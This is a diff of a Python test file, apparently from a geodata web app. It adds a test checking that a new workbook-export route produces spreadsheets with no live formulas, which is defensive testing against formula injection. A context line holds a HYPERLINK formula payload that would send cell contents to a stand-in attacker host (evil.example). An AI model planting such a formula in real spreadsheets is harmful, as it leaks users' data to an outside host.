@@ -19,7 +19,7 @@ from geodata.cli.facts import main
 from geodata.store import Store
 from layers.themes.registry import THEMES
 from tests.quick import first_is_quick
-from tests.routes.answers.test_page import PAGE, bring_in
+from tests.routes.answers.test_page import PAGE, bring_in, token
 from tests.routes.published import Texts, app_with
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"{}")'
@@ -77,6 +77,9 @@ ADDRESSES = {
     "/aineistot/versions/<int:number>/report.xlsx": ["/aineistot/versions/1/report.xlsx"],
 }
 """Addresses of each route that gives CSV or XLSX."""
+
+FILLED_IN = "/aineistot/taytto/template.xlsx"
+"""Route that gives a workbook of what is sent to it."""
 
 NO_SPREADSHEETS = {"/qr.svg", "/qr.png", "/api/v1/areas/<division>.geojson", "/export.pptx"}
 
@@ -136,7 +139,7 @@ def browser(made: tuple[Dash, Store, Texts]) -> FlaskClient:
 def test_every_route_is_walked(app: Dash) -> None:
     gives = re.compile(r"\.(csv|xlsx|zip|<kind>)$")
     routes = {rule.rule for rule in app.server.url_map.iter_rules() if gives.search(rule.rule)}
-    assert routes - NO_SPREADSHEETS == set(ADDRESSES)
+    assert routes - NO_SPREADSHEETS == {*ADDRESSES, FILLED_IN}
 
 
 @pytest.mark.parametrize(
@@ -152,6 +155,15 @@ def test_no_file_of_a_route_calculates(browser: FlaskClient, route: str) -> None
             response = browser.get(address.format(data=data))
             assert response.status_code == 200, address
             assert assert_calculates_nothing(response.data) > 20, address
+
+
+def test_a_workbook_of_what_is_filled_in_calculates_nothing(
+    made: tuple[Dash, Store, Texts], browser: FlaskClient
+) -> None:
+    form = {"token": token(browser), "sheets": made[2].file().decode()}
+    response = browser.post(FILLED_IN, data=form)
+    assert response.status_code == 200
+    assert assert_calculates_nothing(response.data) > 20
 
 
 def test_the_texts_are_there_as_they_were_written(
